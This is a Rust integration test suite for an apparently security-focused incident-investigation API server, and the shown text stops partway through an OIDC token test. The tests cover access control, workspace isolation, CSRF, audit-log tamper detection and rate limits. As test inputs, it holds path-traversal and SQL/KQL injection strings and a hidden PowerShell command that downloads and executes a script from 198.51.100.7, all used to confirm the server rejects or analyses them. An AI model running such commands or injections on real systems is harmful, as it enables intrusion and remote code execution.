//! The API against the real server on 127.0.0.1:0 with a real HTTP client, over a small
//! generated demo tenant (with detection run, so it has incidents) shared by every test.
use bulwark_server::db::{Db, HashCost};
use bulwark_server::names::{Role, WorkspaceName};
use bulwark_server::{AppState, RateLimit, Server, ServerConfig};
use reqwest::StatusCode;
use serde_json::{Value, json};
use std::collections::HashMap;
use std::path::PathBuf;
use std::sync::OnceLock;

const CHEAP: HashCost = HashCost { memory_kib: 64, iterations: 1 };

struct Env {
    base: String,
    keys: HashMap<&'static str, String>,
    db_path: PathBuf,
}

/// Starts a server on its own runtime thread (it outlives each test's runtime).
fn start(config: ServerConfig, setup: impl FnOnce(&AppState) + Send + 'static) -> String {
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let rt = tokio::runtime::Builder::new_multi_thread()
            .worker_threads(2)
            .enable_all()
            .build()
            .expect("runtime");
        rt.block_on(async move {
            let server = Server::open(config, false).await.expect("server");
            setup(server.state());
            let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("bind");
            tx.send(listener.local_addr().expect("addr")).expect("send");
            bulwark_server::serve_state(listener, server.state().clone(), std::future::pending())
                .await
                .expect("serve");
        });
    });
    let addr = rx.recv().expect("server started");
    format!("http://{addr}")
}

fn add(db: &Db, name: &str, role: Role, ws: &str) -> String {
    db.add_user(name, role, &WorkspaceName::parse(ws).expect("ws"), CHEAP).expect("user")
}

fn env() -> &'static Env {
    static E: OnceLock<Env> = OnceLock::new();
    // Built on a thread of its own: the demo writer and detection drive their own runtimes,
    // which cannot start inside a test's.
    E.get_or_init(|| std::thread::spawn(build_env).join().expect("test environment"))
}

fn build_env() -> Env {
    {
        let data = tempfile::tempdir().expect("temp").keep();
        let store = bulwark_store::Store::open(&data).expect("store");
        let options = bulwark_demo::DemoOptions { events: 10_000, seed: 7, ..Default::default() };
        bulwark_demo::write_demo(&store, &options, &mut |_| {}).expect("demo tenant");
        let mut rules = bulwark_detect::RuleSet::new();
        bulwark_detect::builtin::load_builtin(&mut rules);
        let findings = bulwark_detect::hunt::hunt(
            &store,
            &rules,
            &bulwark_detect::IncidentConfig::default(),
            &mut |_| {},
        )
        .expect("detection");
        bulwark_detect::hunt::write_findings(&store, &findings).expect("findings");
        let root = tempfile::tempdir().expect("temp").keep();
        let mut config = ServerConfig::new(&root).with_workspace_dir("default", &data);
        config.key_hash_cost = CHEAP;
        config.rate_limit = RateLimit { burst: 10_000, per_second: 10_000.0 };
        let db_path = config.db_path();
        let keys = {
            let db = Db::open(&db_path).expect("db");
            let mut keys = HashMap::new();
            keys.insert("alice", add(&db, "alice", Role::Owner, "default"));
            keys.insert("carol", add(&db, "carol", Role::Contributor, "default"));
            keys.insert("dave", add(&db, "dave", Role::Contributor, "default"));
            keys.insert("rita", add(&db, "rita", Role::Reader, "default"));
            keys.insert("olga", add(&db, "olga", Role::Owner, "other"));
            keys
        };
        let base = start(config, |_| {});
        Env { base, keys, db_path }
    }
}

fn client() -> reqwest::Client {
    bulwark_llm::install_tls_provider();
    reqwest::Client::builder().cookie_store(true).build().expect("client")
}

async fn call(
    method: &str,
    path: &str,
    user: Option<&str>,
    body: Option<Value>,
) -> (StatusCode, Value) {
    let e = env();
    let url = format!("{}/api/v1{path}", e.base);
    let mut req = client().request(method.parse().expect("method"), url);
    if let Some(u) = user {
        req = req.bearer_auth(&e.keys[u]);
    }
    if let Some(b) = body {
        req = req.json(&b);
    }
    let resp = req.send().await.expect("send");
    let status = resp.status();
    let text = resp.text().await.expect("body");
    (status, serde_json::from_str(&text).unwrap_or(Value::String(text)))
}

fn code(v: &Value) -> &str {
    v["error"]["code"].as_str().unwrap_or("")
}

#[tokio::test]
async fn requests_without_credentials_are_refused() {
    let (s, v) = call("GET", "/sessions", None, None).await;
    assert_eq!(s, StatusCode::UNAUTHORIZED);
    assert_eq!(code(&v), "unauthorized");
    let resp = client()
        .get(format!("{}/api/v1/incidents", env().base))
        .bearer_auth(
            "bwk_000000000000_0000000000000000000000000000000000000000000000000000000000000000",
        )
        .send()
        .await
        .expect("send");
    assert_eq!(resp.status(), StatusCode::UNAUTHORIZED);
    let h = resp.headers();
    assert_eq!(h["x-content-type-options"], "nosniff");
    assert_eq!(h["x-frame-options"], "DENY");
    assert_eq!(h["referrer-policy"], "no-referrer");
    assert_eq!(h["cache-control"], "no-store");
    assert!(h["content-security-policy"].to_str().unwrap_or("").contains("frame-ancestors 'none'"));
}

#[tokio::test]
async fn roles_are_enforced_server_side() {
    let (s, v) =
        call("POST", "/prompts", Some("rita"), Some(json!({"prompt": "Who was patient zero?"})))
            .await;
    assert_eq!((s, code(&v)), (StatusCode::FORBIDDEN, "forbidden"));
    let (s, _) =
        call("POST", "/kql/run", Some("rita"), Some(json!({"query": "SecurityIncident | count"})))
            .await;
    assert_eq!(s, StatusCode::FORBIDDEN);
    let (s, _) = call("GET", "/users", Some("carol"), None).await;
    assert_eq!(s, StatusCode::FORBIDDEN);
    let (s, _) =
        call("POST", "/users", Some("carol"), Some(json!({"name": "eve", "role": "owner"}))).await;
    assert_eq!(s, StatusCode::FORBIDDEN);
    let (s, _) =
        call("PATCH", "/plugins/RunKql", Some("carol"), Some(json!({"enabled": false}))).await;
    assert_eq!(s, StatusCode::FORBIDDEN);
    let (s, _) = call("GET", "/audit", Some("carol"), None).await;
    assert_eq!(s, StatusCode::FORBIDDEN);
    // Readers read the workspace's incidents.
    let (s, v) = call("GET", "/incidents", Some("rita"), None).await;
    assert_eq!(s, StatusCode::OK);
    assert!(!v.as_array().expect("list").is_empty());
    let (s, _) =
        call("PATCH", "/incidents/1", Some("rita"), Some(json!({"status": "Active"}))).await;
    assert_eq!(s, StatusCode::FORBIDDEN);
}

#[tokio::test]
async fn sessions_are_private_until_shared() {
    let (s, a) =
        call("POST", "/prompts", Some("carol"), Some(json!({"prompt": "Who was patient zero?"})))
            .await;
    assert_eq!(s, StatusCode::OK, "{a}");
    let id = a["session_id"].as_str().expect("session").to_string();
    assert!(!a["answer"].as_str().unwrap_or("").is_empty());
    assert!(!a["evidence"].as_array().expect("evidence").is_empty(), "{a}");
    let prompt_id = a["prompt_id"].as_i64().expect("prompt id");
    let (s, b) = call(
        "POST",
        "/prompts",
        Some("carol"),
        Some(json!({"prompt": "what is the impact of that incident?", "session_id": id})),
    )
    .await;
    assert_eq!(s, StatusCode::OK, "{b}");
    assert_eq!(b["session_id"], json!(id));

    let (s, v) = call("GET", &format!("/sessions/{id}"), Some("carol"), None).await;
    assert_eq!(s, StatusCode::OK);
    let turns = v["turns"].as_array().expect("turns");
    assert_eq!(turns.len(), 2);
    assert!(!turns[0]["evidence"].as_array().expect("evidence").is_empty());
    let (_, list) = call("GET", "/sessions", Some("carol"), None).await;
    assert!(
        list.as_array()
            .expect("list")
            .iter()
            .any(|s| s["id"] == json!(id) && s["owner"] == "carol")
    );

    // Another user of the same workspace sees nothing, and cannot prompt into it.
    for (m, p, body) in [
        ("GET", format!("/sessions/{id}"), None),
        ("GET", format!("/sessions/{id}/export?format=md"), None),
        ("GET", format!("/sessions/{id}/pins"), None),
        ("DELETE", format!("/sessions/{id}"), None),
        ("PATCH", format!("/sessions/{id}"), Some(json!({"name": "mine"}))),
        ("POST", "/prompts".to_string(), Some(json!({"prompt": "hi", "session_id": id}))),
        ("POST", "/feedback".to_string(), Some(json!({"prompt_id": prompt_id, "kind": "down"}))),
    ] {
        let (s, v) = call(m, &p, Some("dave"), body).await;
        assert_eq!(s, StatusCode::NOT_FOUND, "{m} {p}: {v}");
    }
    let (_, list) = call("GET", "/sessions", Some("dave"), None).await;
    assert!(!list.as_array().expect("list").iter().any(|s| s["id"] == json!(id)));
    // Another workspace's owner neither.
    let (s, _) = call("GET", &format!("/sessions/{id}"), Some("olga"), None).await;
    assert_eq!(s, StatusCode::NOT_FOUND);

    // Shared with a reader: readable, not changeable.
    let (s, _) = call(
        "POST",
        &format!("/sessions/{id}/share"),
        Some("carol"),
        Some(json!({"user": "rita"})),
    )
    .await;
    assert_eq!(s, StatusCode::OK);
    let (s, _) = call(
        "POST",
        &format!("/sessions/{id}/share"),
        Some("carol"),
        Some(json!({"user": "olga"})),
    )
    .await;
    assert_eq!(s, StatusCode::NOT_FOUND, "users of other workspaces cannot be shared with");
    let (s, v) = call("GET", &format!("/sessions/{id}"), Some("rita"), None).await;
    assert_eq!(s, StatusCode::OK, "{v}");
    let (s, _) = call("DELETE", &format!("/sessions/{id}"), Some("rita"), None).await;
    assert_eq!(s, StatusCode::FORBIDDEN);

    // Pins, feedback, rename, export.
    let (s, _) = call(
        "POST",
        &format!("/sessions/{id}/pins"),
        Some("carol"),
        Some(json!({"prompt_id": prompt_id, "note": "patient zero"})),
    )
    .await;
    assert_eq!(s, StatusCode::OK);
    let (_, pins) = call("GET", &format!("/sessions/{id}/pins"), Some("rita"), None).await;
    assert_eq!(pins[0]["note"], "patient zero");
    assert_eq!(pins[0]["prompt"], "Who was patient zero?");
    let (s, _) = call(
        "POST",
        "/feedback",
        Some("carol"),
        Some(json!({"prompt_id": prompt_id, "kind": "up", "comment": "right"})),
    )
    .await;
    assert_eq!(s, StatusCode::OK);
    let (s, _) = call(
        "POST",
        "/feedback",
        Some("carol"),
        Some(json!({"prompt_id": prompt_id, "kind": "meh"})),
    )
    .await;
    assert_eq!(s, StatusCode::BAD_REQUEST);
    let (s, _) = call(
        "PATCH",
        &format!("/sessions/{id}"),
        Some("carol"),
        Some(json!({"name": "patient zero"})),
    )
    .await;
    assert_eq!(s, StatusCode::OK);
    let resp = client()
        .get(format!("{}/api/v1/sessions/{id}/export?format=html", env().base))
        .bearer_auth(&env().keys["carol"])
        .send()
        .await
        .expect("send");
    assert!(resp.headers()["content-type"].to_str().unwrap_or("").starts_with("text/html"));
    assert!(resp.text().await.expect("html").contains("<h1>patient zero</h1>"));
    let (s, _) = call("DELETE", &format!("/sessions/{id}"), Some("carol"), None).await;
    assert_eq!(s, StatusCode::OK);
    let (s, _) = call("GET", &format!("/sessions/{id}"), Some("carol"), None).await;
    assert_eq!(s, StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn workspaces_do_not_see_each_other() {
    let (s, mine) =
        call("POST", "/kql/run", Some("carol"), Some(json!({"query": "SecurityIncident | count"})))
            .await;
    assert_eq!(s, StatusCode::OK, "{mine}");
    assert!(mine["rows"][0][0].as_i64().unwrap_or(0) > 0, "{mine}");
    let (s, theirs) =
        call("POST", "/kql/run", Some("olga"), Some(json!({"query": "SecurityIncident | count"})))
            .await;
    assert_eq!(s, StatusCode::OK, "{theirs}");
    assert_eq!(theirs["rows"][0][0], json!(0));
    let (_, incidents) = call("GET", "/incidents", Some("olga"), None).await;
    assert_eq!(incidents, json!([]));
    let (s, _) = call("GET", "/incidents/1", Some("olga"), None).await;
    assert_eq!(s, StatusCode::NOT_FOUND);
    // Owners manage only their own workspace.
    let (s, v) = call(
        "POST",
        "/users",
        Some("olga"),
        Some(json!({"name": "mallory", "role": "owner", "workspace": "default"})),
    )
    .await;
    assert_eq!(s, StatusCode::FORBIDDEN, "{v}");
    let (_, users) = call("GET", "/users", Some("olga"), None).await;
    let names: Vec<&str> =
        users.as_array().expect("users").iter().filter_map(|u| u["name"].as_str()).collect();
    assert_eq!(names, vec!["olga"]);
}

#[tokio::test]
async fn hostile_inputs_are_data() {
    for id in ["..%2F..%2Fetc%2Fpasswd", "s'%20OR%201=1--", "s..", &"a".repeat(300), "%00"] {
        let (s, v) = call("GET", &format!("/sessions/{id}"), Some("carol"), None).await;
        assert_eq!(s, StatusCode::NOT_FOUND, "{id}: {v}");
    }
    let (s, _) = call("GET", "/sessions/../users", Some("carol"), None).await;
    assert_ne!(s, StatusCode::OK);
    for ws in ["../default", "..", "a/b", "DEFAULT", "x%2F.."] {
        let (s, v) = call(
            "POST",
            "/users",
            Some("alice"),
            Some(json!({"name": "zed", "role": "reader", "workspace": ws})),
        )
        .await;
        assert_eq!(s, StatusCode::BAD_REQUEST, "{ws}: {v}");
    }
    for q in [
        "['../../etc/passwd'] | take 1",
        "table('../../other/SecurityIncident') | take 1",
        ".drop table SecurityIncident",
        "SecurityIncident | take 1; .drop table SecurityIncident",
        "NoSuchTable | take 1",
    ] {
        let (s, v) = call("POST", "/kql/run", Some("carol"), Some(json!({"query": q}))).await;
        assert_eq!(s, StatusCode::BAD_REQUEST, "{q}: {v}");
        assert_eq!(code(&v), "bad_request");
        assert!(v["diagnostics"].is_array(), "{v}");
    }
    let (s, v) = call(
        "POST",
        "/kql/run",
        Some("carol"),
        Some(json!({"query": "SecurityIncident | wher x"})),
    )
    .await;
    assert_eq!(s, StatusCode::BAD_REQUEST);
    assert_eq!(v["diagnostics"][0]["line"], json!(1), "{v}");
    for n in ["..%2F1", "-1", "0", "1%20or%201=1", "99999"] {
        let (s, _) = call("GET", &format!("/incidents/{n}"), Some("carol"), None).await;
        assert_eq!(s, StatusCode::NOT_FOUND, "{n}");
    }
    // Over the body limit: 413 in the JSON error shape.
    let huge = "x".repeat(2 * 1024 * 1024);
    let (s, v) = call("POST", "/prompts", Some("carol"), Some(json!({"prompt": huge}))).await;
    assert_eq!((s, code(&v)), (StatusCode::PAYLOAD_TOO_LARGE, "too_large"), "{v}");
    let resp = client()
        .post(format!("{}/api/v1/prompts", env().base))
        .bearer_auth(&env().keys["carol"])
        .header("content-type", "application/json")
        .body("{not json")
        .send()
        .await
        .expect("send");
    assert_eq!(resp.status(), StatusCode::BAD_REQUEST);
    let (s, _) = call("GET", "/no/such/endpoint", Some("carol"), None).await;
    assert_eq!(s, StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn browser_sessions_need_the_csrf_token() {
    let e = env();
    let c = client();
    let login = c
        .post(format!("{}/api/v1/auth/login", e.base))
        .json(&json!({"api_key": e.keys["carol"]}))
        .send()
        .await
        .expect("login");
    assert_eq!(login.status(), StatusCode::OK);
    let cookie = login.headers()["set-cookie"].to_str().unwrap_or("").to_string();
    assert!(cookie.starts_with("bulwark_session="), "{cookie}");
    for attr in ["HttpOnly", "SameSite=Strict", "Path=/"] {
        assert!(cookie.contains(attr), "{cookie}");
    }
    assert!(!cookie.contains("Secure"), "plain HTTP on loopback: {cookie}");
    let body: Value = login.json().await.expect("json");
    assert_eq!(
        (body["user"].as_str(), body["role"].as_str()),
        (Some("carol"), Some("contributor"))
    );
    let csrf = body["csrf_token"].as_str().expect("csrf").to_string();

    let me: Value = c
        .get(format!("{}/api/v1/me", e.base))
        .send()
        .await
        .expect("me")
        .json()
        .await
        .expect("json");
    assert_eq!(me["user"], "carol");
    let prompt = json!({"prompt": "What can you do?"});
    let r = c.post(format!("{}/api/v1/prompts", e.base)).json(&prompt).send().await.expect("post");
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    let r = c
        .post(format!("{}/api/v1/prompts", e.base))
        .header("X-CSRF-Token", "0".repeat(64))
        .json(&prompt)
        .send()
        .await
        .expect("post");
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    let r = c
        .post(format!("{}/api/v1/prompts", e.base))
        .header("X-CSRF-Token", &csrf)
        .json(&prompt)
        .send()
        .await
        .expect("post");
    assert_eq!(r.status(), StatusCode::OK);
    let r = c
        .post(format!("{}/api/v1/auth/logout", e.base))
        .header("X-CSRF-Token", &csrf)
        .send()
        .await
        .expect("logout");
    assert_eq!(r.status(), StatusCode::OK);
    let r = c.get(format!("{}/api/v1/me", e.base)).send().await.expect("me");
    assert_eq!(r.status(), StatusCode::UNAUTHORIZED);
    let bad = c
        .post(format!("{}/api/v1/auth/login", e.base))
        .json(&json!({"api_key": "bwk_nope"}))
        .send()
        .await
        .expect("login");
    assert_eq!(bad.status(), StatusCode::UNAUTHORIZED);
}

#[tokio::test]
async fn answers_stream_in_order() {
    let e = env();
    let resp = client()
        .post(format!("{}/api/v1/prompts/stream", e.base))
        .bearer_auth(&e.keys["carol"])
        .json(&json!({"prompt": "Summarize the intrusion"}))
        .send()
        .await
        .expect("send");
    assert_eq!(resp.status(), StatusCode::OK);
    assert!(resp.headers()["content-type"].to_str().unwrap_or("").starts_with("text/event-stream"));
    let text = resp.text().await.expect("stream");
    let mut events: Vec<(String, Value)> = Vec::new();
    for block in text.split("\n\n") {
        let mut name = String::new();
        let mut data = String::new();
        for line in block.lines() {
            if let Some(n) = line.strip_prefix("event: ") {
                name = n.to_string();
            } else if let Some(d) = line.strip_prefix("data: ") {
                data.push_str(d);
            }
        }
        if !name.is_empty() {
            events.push((name, serde_json::from_str(&data).unwrap_or(Value::Null)));
        }
    }
    let names: Vec<&str> = events.iter().map(|(n, _)| n.as_str()).collect();
    assert_eq!(names.first(), Some(&"session"), "{names:?}");
    assert_eq!(&names[names.len() - 2..], &["answer", "done"], "{names:?}");
    // Steps are reported as they finish: extraction and planning before the first token of
    // the answer, the composer's closing steps (guard, total) may follow its tokens.
    let first_token = names.iter().position(|n| *n == "token").expect("tokens");
    assert!(names[1..first_token].iter().all(|n| *n == "process"));
    assert!(
        names[1..first_token].len() >= 2,
        "extraction and planning are reported before the answer: {names:?}"
    );
    assert!(
        names[first_token..names.len() - 2].iter().all(|n| *n == "token" || *n == "process"),
        "{names:?}"
    );
    let streamed: String = events
        .iter()
        .filter(|(n, _)| n == "token")
        .filter_map(|(_, d)| d["text"].as_str())
        .collect();
    let answer = &events[events.len() - 2].1;
    assert_eq!(streamed, answer["answer"].as_str().unwrap_or(""));
    assert_eq!(events[0].1["session_id"], answer["session_id"]);
    // Another user's session cannot be streamed into.
    let (s, _) = call(
        "POST",
        "/prompts/stream",
        Some("dave"),
        Some(json!({"prompt": "x", "session_id": answer["session_id"]})),
    )
    .await;
    assert_eq!(s, StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn incidents_kql_scripts_and_catalogs() {
    let (s, list) = call("GET", "/incidents", Some("carol"), None).await;
    assert_eq!(s, StatusCode::OK);
    let first = &list.as_array().expect("incidents")[0];
    let n = first["number"].as_i64().expect("number");
    let (s, one) = call("GET", &format!("/incidents/{n}"), Some("carol"), None).await;
    assert_eq!(s, StatusCode::OK, "{one}");
    assert!(!one["alerts"].as_array().expect("alerts").is_empty(), "{one}");
    assert_eq!(one["timeline"].as_array().map(Vec::len), one["alerts"].as_array().map(Vec::len));
    let (s, upd) = call(
        "PATCH",
        &format!("/incidents/{n}"),
        Some("carol"),
        Some(json!({"status": "active", "owner": "carol"})),
    )
    .await;
    assert_eq!(s, StatusCode::OK, "{upd}");
    assert_eq!((upd["status"].as_str(), upd["owner"].as_str()), (Some("Active"), Some("carol")));
    let (_, filtered) =
        call("GET", "/incidents?status=Active&owner=carol", Some("rita"), None).await;
    assert!(filtered.as_array().expect("list").iter().any(|i| i["number"] == json!(n)));
    let (s, _) = call(
        "PATCH",
        &format!("/incidents/{n}"),
        Some("carol"),
        Some(json!({"status": "Deleted"})),
    )
    .await;
    assert_eq!(s, StatusCode::BAD_REQUEST);
    let (s, alerts) = call("GET", &format!("/alerts?incident={n}"), Some("rita"), None).await;
    assert_eq!(s, StatusCode::OK);
    assert_eq!(alerts.as_array().map(Vec::len), one["alerts"].as_array().map(Vec::len));

    let (s, r) = call(
        "POST",
        "/kql/run",
        Some("carol"),
        Some(json!({"query": "DeviceProcessEvents | take 7", "max_rows": 5})),
    )
    .await;
    assert_eq!(s, StatusCode::OK);
    assert_eq!((r["row_count"].as_u64(), r["truncated"].as_bool()), (Some(5), Some(true)));
    assert_eq!(r["rows"][0].as_array().map(Vec::len), r["columns"].as_array().map(Vec::len));
    let (_, c) = call(
        "POST",
        "/kql/check",
        Some("carol"),
        Some(json!({"query": "DeviceLogonEvents | where AccountNam == 'x'"})),
    )
    .await;
    assert_eq!(c["valid"], json!(false));
    assert!(c["diagnostics"][0]["message"].as_str().unwrap_or("").contains("AccountName"), "{c}");
    let (_, g) = call(
        "POST",
        "/kql/generate",
        Some("carol"),
        Some(json!({"question": "failed sign-ins in the last day"})),
    )
    .await;
    assert_eq!(
        (g["valid"].as_bool(), g["table"].as_str()),
        (Some(true), Some("SigninLogs")),
        "{g}"
    );

    let script = "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')\"";
    let (s, a) =
        call("POST", "/scripts/analyze", Some("carol"), Some(json!({"script": script}))).await;
    assert_eq!(s, StatusCode::OK, "{a}");
    assert!(a["links"].is_array() && a.get("verdict").is_some(), "{a}");

    let (_, books) = call("GET", "/promptbooks", Some("rita"), None).await;
    assert!(books.as_array().expect("books").iter().any(|b| b["name"] == "incident-investigation"));
    let (s, run) = call(
        "POST",
        "/promptbooks/vulnerability-impact/run",
        Some("carol"),
        Some(json!({"params": {"cve": "CVE-2024-3400"}})),
    )
    .await;
    assert_eq!(s, StatusCode::OK, "{run}");
    assert_eq!(run["steps"].as_array().map(Vec::len), Some(2));
    let (s, _) = call(
        "POST",
        "/promptbooks/vulnerability-impact/run",
        Some("carol"),
        Some(json!({"params": {}})),
    )
    .await;
    assert_eq!(s, StatusCode::BAD_REQUEST);

    let (_, plugins) = call("GET", "/plugins", Some("rita"), None).await;
    assert!(
        plugins
            .as_array()
            .expect("plugins")
            .iter()
            .any(|p| p["name"] == "IncidentSummary" && p["enabled"] == json!(true))
    );
    let (s, p) = call(
        "PATCH",
        "/plugins/incidentsummary",
        Some("alice"),
        Some(json!({"settings": {"max": 3}})),
    )
    .await;
    assert_eq!(s, StatusCode::OK, "{p}");
    assert_eq!(p["name"], "IncidentSummary");

    let (s, e) =
        call("POST", "/embed/incident-summary", Some("carol"), Some(json!({"incident": n}))).await;
    assert_eq!(s, StatusCode::OK);
    assert!(!e["markdown"].as_str().unwrap_or("").is_empty() && e["evidence"].is_array());
    let (s, _) = call(
        "POST",
        "/embed/incident-summary",
        Some("carol"),
        Some(json!({"incident": "1; drop"})),
    )
    .await;
    assert_eq!(s, StatusCode::BAD_REQUEST);
    let (s, i) = call("GET", "/intel/lookup?indicator=198.51.100.7", Some("carol"), None).await;
    assert_eq!(s, StatusCode::OK, "{i}");
    let (s, r) = call(
        "POST",
        "/reports",
        Some("carol"),
        Some(json!({"audience": "executive", "tone": "plain"})),
    )
    .await;
    assert_eq!(s, StatusCode::OK, "{r}");
}

#[tokio::test]
async fn every_action_is_audited_in_a_verifiable_chain() {
    let (s, _) = call(
        "POST",
        "/kql/run",
        Some("carol"),
        Some(json!({"query": "DeviceInfo | take 1 // audit-marker"})),
    )
    .await;
    assert_eq!(s, StatusCode::OK);
    let (s, _) = call(
        "POST",
        "/prompts",
        Some("carol"),
        Some(json!({"prompt": "Show antivirus detections"})),
    )
    .await;
    assert_eq!(s, StatusCode::OK);
    let _ = call("GET", "/users", Some("dave"), None).await;
    let (s, _) =
        call("POST", "/users", Some("alice"), Some(json!({"name": "newbie", "role": "reader"})))
            .await;
    assert_eq!(s, StatusCode::OK);
    let (s, log) = call("GET", "/audit?limit=10000", Some("alice"), None).await;
    assert_eq!(s, StatusCode::OK);
    let log = log.as_array().expect("entries").clone();
    let has = |pred: &dyn Fn(&Value) -> bool| log.iter().any(pred);
    assert!(has(&|e| e["action"] == "sign_in" && e["actor"] == "carol" && e["outcome"] == "ok"));
    assert!(has(&|e| e["action"] == "kql"
        && e["detail"]["query"].as_str().unwrap_or("").contains("audit-marker")));
    assert!(has(
        &|e| e["action"] == "prompt" && e["detail"]["prompt"] == "Show antivirus detections"
    ));
    assert!(has(&|e| e["action"] == "skill"
        && !e["detail"]["kql"].as_array().map(Vec::is_empty).unwrap_or(true)));
    assert!(has(&|e| e["action"] == "admin.users"
        && e["actor"] == "dave"
        && e["outcome"] == "denied"));
    assert!(has(&|e| e["action"] == "admin.user_add" && e["target"] == "newbie"));
    assert!(log.iter().all(|e| e["workspace"] == "default"), "an owner sees only their workspace");

    // The audit log is a KQL table for owners.
    let (s, v) = call("POST", "/kql/run", Some("alice"), Some(json!({"query": "BulwarkAudit_CL | where Action == 'kql' and Detail contains 'audit-marker' | count"}))).await;
    assert_eq!(s, StatusCode::OK, "{v}");
    assert!(v["rows"][0][0].as_i64().unwrap_or(0) >= 1, "{v}");
    let (s, v) =
        call("POST", "/kql/run", Some("carol"), Some(json!({"query": "BulwarkAudit_CL | count"})))
            .await;
    assert_eq!(s, StatusCode::BAD_REQUEST, "contributors cannot read the audit table: {v}");

    let db = Db::open(&env().db_path).expect("db");
    let v = db.verify_audit().expect("verify");
    assert!(v.ok() && v.rows as usize >= log.len(), "{v:?}");
    // A copy with one row edited (after dropping the append-only trigger) fails verification.
    let copy = tempfile::tempdir().expect("temp");
    let path = copy.path().join("copy.sqlite");
    let conn = rusqlite::Connection::open(&env().db_path).expect("open");
    conn.execute("VACUUM INTO ?1", [path.to_str().expect("path")]).expect("copy");
    let c2 = rusqlite::Connection::open(&path).expect("open copy");
    assert!(c2.execute("UPDATE audit SET actor = 'nobody' WHERE id = 2", []).is_err());
    c2.execute_batch(
        "DROP TRIGGER audit_no_update; UPDATE audit SET actor = 'nobody' WHERE id = 2;",
    )
    .expect("tamper");
    drop(c2);
    let tampered = Db::open(&path).expect("db").verify_audit().expect("verify");
    assert_eq!(tampered.broken_at, Some(2));
}

#[tokio::test]
async fn the_openapi_document_and_the_web_files() {
    let (s, doc) = call("GET", "/openapi.json", None, None).await;
    assert_eq!(s, StatusCode::OK);
    let paths = doc["paths"].as_object().expect("paths");
    for p in [
        "/prompts",
        "/prompts/stream",
        "/sessions/{id}",
        "/sessions/{id}/pins",
        "/kql/run",
        "/incidents/{number}",
        "/users",
        "/audit",
        "/embed/incident-summary",
        "/auth/login",
    ] {
        assert!(paths.contains_key(p), "{p} missing: {:?}", paths.keys().collect::<Vec<_>>());
    }
    assert!(
        paths["/sessions/{id}"].get("patch").is_some()
            && paths["/sessions/{id}"].get("delete").is_some()
    );
    let r = client().get(format!("{}/", env().base)).send().await.expect("get");
    assert_eq!(r.status(), StatusCode::OK);
    assert!(r.headers().contains_key("content-security-policy"));
    let r = client().get(format!("{}/embed/widget.js", env().base)).send().await.expect("get");
    assert!(r.headers()["content-type"].to_str().unwrap_or("").contains("javascript"));
    assert!(r.text().await.expect("js").contains("textContent"));
    let r = client().get(format!("{}/../../etc/passwd", env().base)).send().await.expect("get");
    assert_ne!(r.status(), StatusCode::OK);
}

#[tokio::test]
async fn rate_limits_answer_429_with_retry_after() {
    let root = tempfile::tempdir().expect("temp").keep();
    let mut config = ServerConfig::new(&root);
    config.key_hash_cost = CHEAP;
    config.rate_limit = RateLimit { burst: 3, per_second: 0.2 };
    let key = {
        let db = Db::open(&config.db_path()).expect("db");
        add(&db, "quick", Role::Reader, "default")
    };
    let base = start(config, |_| {});
    let c = client();
    let mut statuses = Vec::new();
    let mut retry = None;
    for _ in 0..5 {
        let r = c.get(format!("{base}/api/v1/me")).bearer_auth(&key).send().await.expect("send");
        statuses.push(r.status());
        if r.status() == StatusCode::TOO_MANY_REQUESTS {
            retry = r.headers().get("retry-after").map(|v| v.to_str().unwrap_or("").to_string());
            let v: Value = r.json().await.expect("json");
            assert_eq!(code(&v), "rate_limited");
        }
    }
    assert_eq!(&statuses[..3], &[StatusCode::OK; 3]);
    assert_eq!(statuses[3], StatusCode::TOO_MANY_REQUESTS);
    assert!(retry.and_then(|r| r.parse::<u64>().ok()).is_some_and(|s| s >= 1));
}

#[tokio::test]
async fn oidc_tokens_map_to_users() {
    use jsonwebtoken::{Algorithm, EncodingKey, Header, encode};
    let fixtures = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures");
    let root = tempfile::tempdir().expect("temp").keep();
    let mut config = ServerConfig::new(&root);
    config.key_hash_cost = CHEAP;
    config.oidc = Some(bulwark_server::OidcConfig {
        issuer: "https://login.example.test/tenant".into(),
        audience: "bulwark".into(),
        jwks: bulwark_server::JwksSource::File(fixtures.join("oidc_test_jwks.json")),
    });
    {
        let db = Db::open(&config.db_path()).expect("db");
        add(&db, "ann@example.test", Role::Owner, "default");
    }
    let base = start(config, |_| {});
    let pem = std::fs::read(fixtures.join("oidc_test_key.pem")).expect("key");
    let key = EncodingKey::from_rsa_pem(&pem).expect("rsa key");
    let now = chrono::Utc::now().timestamp();
    let token = |claims: Value, kid: &str| {
        let mut h = Header::new(Algorithm::RS256);
        h.kid = Some(kid.to_string());
        encode(&h, &claims, &key).expect("sign")
    };
    let base_claims = |extra: Value| {
        let mut c = json!({"iss": "https://login.example.test/tenant", "aud": "bulwark", "exp": now + 600, "iat": now, "sub": "0001"});
        if let (Some(c), Some(e)) = (c.as_object_mut(), extra.as_object()) {
            c.extend(e.clone());
        }
        c
    };
    let me = |t: String| {
        let base = base.clone();
        async move {
            let r = client()
                .get(format!("{base}/api/v1/me"))
                .bearer_auth(t)
                .send()
                .await
                .expect("send");
            let s = r.status();
            (s, r.json::<Value>().await.unwrap_or(Value::Null))
        }
    };
    let (s, v) =
        me(token(base_claims(json!({"preferred_username": "ann@example.test"})), "test-key")).await;
    assert_eq!(s, StatusCode::OK, "{v}");
    assert_eq!((v["user"].as_str(), v["role"].as_str()), (Some("ann@example.test"), Some("owner")));
    let (s, v) = me(token(
        base_claims(json!({"upn": "ben@example.test", "roles": ["reader"], "workspace": "soc"})),
        "test-key",
    ))
    .await;
    assert_eq!(s, StatusCode::OK, "{v}");
    assert_eq!((v["role"].as_str(), v["workspace"].as_str()), (Some("reader"), Some("soc")));
    for bad in [
        token(
            base_claims(json!({"preferred_username": "ann@example.test", "aud": "other"})),
            "test-key",
        ),
        token(
            base_claims(
                json!({"preferred_username": "ann@example.test", "iss": "https://evil.test"}),
            ),
            "test-key",
        ),
        token(
            base_claims(json!({"preferred_username": "ann@example.test", "exp": now - 3600})),
            "test-key",
        ),
        token(base_claims(json!({"preferred_username": "ann@example.test"})), "unknown-kid"),
